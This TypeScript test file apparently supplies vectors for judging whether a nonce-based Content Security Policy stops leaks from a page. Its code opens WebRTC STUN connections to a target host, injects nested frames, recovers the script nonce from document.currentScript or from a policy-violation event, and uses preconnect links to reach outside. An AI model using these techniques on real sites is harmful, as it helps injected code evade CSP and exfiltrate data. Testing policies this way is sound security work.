import { NOTHING, row, run, TLS, UDP, type Vector } from "../vector.ts";
import type { Target } from "../witness.ts";

/** Of the page under attack: a declared read that carries a word to the test. */
declare function say(word: string): Promise<unknown>;

/** Of the page: a frame within it that opens a peer connection in a script with a given nonce. */
declare function openInFrame(to: Target, nonce: string): void;

const FRAME = `<script>function openInFrame(to, nonce) {
  const frame = document.createElement("iframe");
  frame.srcdoc = "<script nonce='" + nonce + "'>const peer = new RTCPeerConnection({ iceServers: [" +
    "{ urls: 'stun:" + to.host + ":" + to.port + "' }] }); peer.createDataChannel('a');" +
    "peer.setLocalDescription()</" + "script>";
  document.documentElement.append(frame);
}</script>`;

const framed = (attack: (to: Target) => unknown) => (to: Target) => FRAME + run(attack)(to);

const VIEW = { needs: "view" } as const;

/** What a policy by nonce would close, and how it is opened again. */
const CLOSED: readonly Vector[] = [
  ...row(
    "Nonce: WebRTC",
    UDP,
    {
      "in the page, whose interfaces are gone": run((to) => {
        const peer = new RTCPeerConnection({
          iceServers: [{ urls: `stun:${to.host}:${to.port}` }],
        });
        Object.assign(window, { peer });
        peer.createDataChannel("a");
        return peer.setLocalDescription();
      }),
      "in a nested frame": framed((to) => openInFrame(to, "")),
    },
    { ...VIEW, network: true, leaks: UDP, other: NOTHING },
  ),
  ...row(
    "Nonce: WebRTC",
    UDP,
    {
      "in a nested frame, by the nonce of the running script": framed((to) =>
        openInFrame(to, document.currentScript?.nonce ?? ""),
      ),
      "in a nested frame, by the policy that a violation tells": framed((to) => {
        const open = (policy: string) => openInFrame(to, /'nonce-([^']+)'/.exec(policy)?.[1] ?? "");
        addEventListener("securitypolicyviolation", (event) => open(event.originalPolicy));
        const refused = document.createElement("script");
        refused.text = "0";
        document.documentElement.append(refused);
        setTimeout(() => open(""));
      }),
    },
    { ...VIEW, network: true, leaks: UDP },
  ),
];

/** What it would not close: a name that is looked up says as much as a datagram. */
const OPEN: readonly Vector[] = row(
  "Nonce: names and connections",
  TLS,
  {
    preconnect: (to) => `<link rel="preconnect" href="${to.https}">`,
    "nested frame by address": (to) => `<iframe src="${to.https}"></iframe>`,
  },
  { ...VIEW, leaks: TLS },
);

/** What programs do in good faith; in these rows, being heard is what is wanted. */
const BROKEN: readonly Vector[] = row(
  "Nonce: good faith",
  ["page"],
  {
    "handler in an attribute": () =>
      `<button id="b" onclick="say('landed')">a</button><script>b.click()</script>`,
    "script that a script adds": run(() => {
      const script = document.createElement("script");
      script.text = `say("landed")`;
      document.documentElement.append(script);
    }),
    "script that a script writes": run(() => {
      document.write(["<scr", "ipt>say('landed')</scr", "ipt>"].join(""));
    }),
  },
  { ...VIEW, leaks: ["page"], other: NOTHING },
);

/** The evidence for the decision about nonces; only Chromium's is pinned. */
export const NONCE: readonly Vector[] = [...CLOSED, ...OPEN, ...BROKEN];
